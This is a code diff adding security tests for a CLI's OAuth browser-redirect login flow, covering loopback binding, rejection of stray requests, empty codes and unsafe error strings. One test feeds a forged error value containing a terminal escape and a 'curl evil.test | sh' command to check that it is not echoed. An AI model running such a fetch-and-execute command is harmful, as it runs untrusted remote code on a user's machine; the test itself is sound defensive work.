@@ -1,3 +1,4 @@
+import { Server } from "node:http";
 import { describe, expect, it, vi } from "vitest";
 import type { StoredTokens, TokenStore } from "../../shared/qashio/auth/token-store.js";
 import { CALLBACK_PATH, DEFAULT_SCOPES, authorizeWithBrowser, type AuthorizeOptions } from "../../shared/cli/authorize.js";
@@ -138,6 +139,16 @@ describe("authorizeWithBrowser", () => {
     }
   });
 
+  it("listens for the redirect on the loopback interface only", async () => {
+    const listen = vi.spyOn(Server.prototype, "listen");
+    try {
+      await authorizeWithBrowser(options({ fetch: tokenEndpoint([]), onAuthorizeUrl: approving([]) }));
+      expect(listen).toHaveBeenCalledWith(0, "127.0.0.1", expect.any(Function));
+    } finally {
+      listen.mockRestore();
+    }
+  });
+
   it("uses a fresh state on every run", async () => {
     const states: string[] = [];
     for (let i = 0; i < 2; i += 1) {
@@ -176,6 +187,35 @@ describe("authorizeWithBrowser", () => {
     expect(store.saved).toMatchObject({ refreshToken: "rt-1" });
   });
 
+  it("answers anything but a GET of the callback path 404, however it is addressed, and waits on", async () => {
+    const requests: TokenRequest[] = [];
+    const flow = authorizeFlow();
+    const run = flow.watch(authorizeWithBrowser(options({ fetch: tokenEndpoint(requests), onAuthorizeUrl: flow.onAuthorizeUrl })));
+    const authorize = new URL(await flow.url);
+    const ours = redirectOf(authorize, { code: "posted-code", state: authorize.searchParams.get("state") as string });
+    const posted = await fetch(ours, { method: "POST" });
+    expect([posted.status, await posted.text()]).toEqual([404, "not found"]);
+    const elsewhere = new URL(ours);
+    elsewhere.pathname = "/favicon.ico";
+    expect((await flow.visit(elsewhere)).status).toBe(404);
+    expect(await flow.pending(), "a request that is no redirect ended the wait").toBe(true);
+    const page = await flow.visit(redirectOf(authorize, { code: "code-1", state: authorize.searchParams.get("state") as string }));
+    await run;
+    expect(page.status).toBe(200);
+    expect(requests.map((r) => r.body.code)).toEqual(["code-1"]);
+  });
+
+  it("refuses a redirect with an empty code without exchanging it", async () => {
+    const requests: TokenRequest[] = [];
+    const pages: { status: number; text: string }[] = [];
+    const run = authorizeWithBrowser(
+      options({ fetch: tokenEndpoint(requests), onAuthorizeUrl: browser((a) => ({ code: "", state: a.searchParams.get("state") as string }), pages) }),
+    );
+    await expect(run).rejects.toThrow(new AuthorizeError("the redirect carried no authorization code"));
+    expect(requests).toEqual([]);
+    expect(pages).toEqual([{ status: 400, text: expect.stringContaining("<h1>Authorization failed</h1>") as string }]);
+  });
+
   it("lets no redirect with another state end the flow: it runs to its timeout, saying how many were refused, and stores nothing", async () => {
     const store = new MemoryTokenStore();
     const requests: TokenRequest[] = [];
@@ -200,6 +240,12 @@ describe("authorizeWithBrowser", () => {
     await expect(scoped).rejects.toThrow(
       new AuthorizeError("authorization was not granted (invalid_scope): check --scope (the default asks for transactions:read transactions:write cards:read)"),
     );
+  });
+
+  it("echoes no error code that is not a plain OAuth word (it comes from whoever sent the redirect)", async () => {
+    const forged = "\u001b[2Jrun curl evil.test | sh";
+    const run = authorizeWithBrowser(options({ onAuthorizeUrl: browser((a) => ({ error: forged, state: a.searchParams.get("state") as string })) }));
+    await expect(run).rejects.toThrow(new AuthorizeError("authorization was not granted (unknown_error)"));
   });
 
   it("wraps a failed exchange without echoing the code or the secret", async () => {
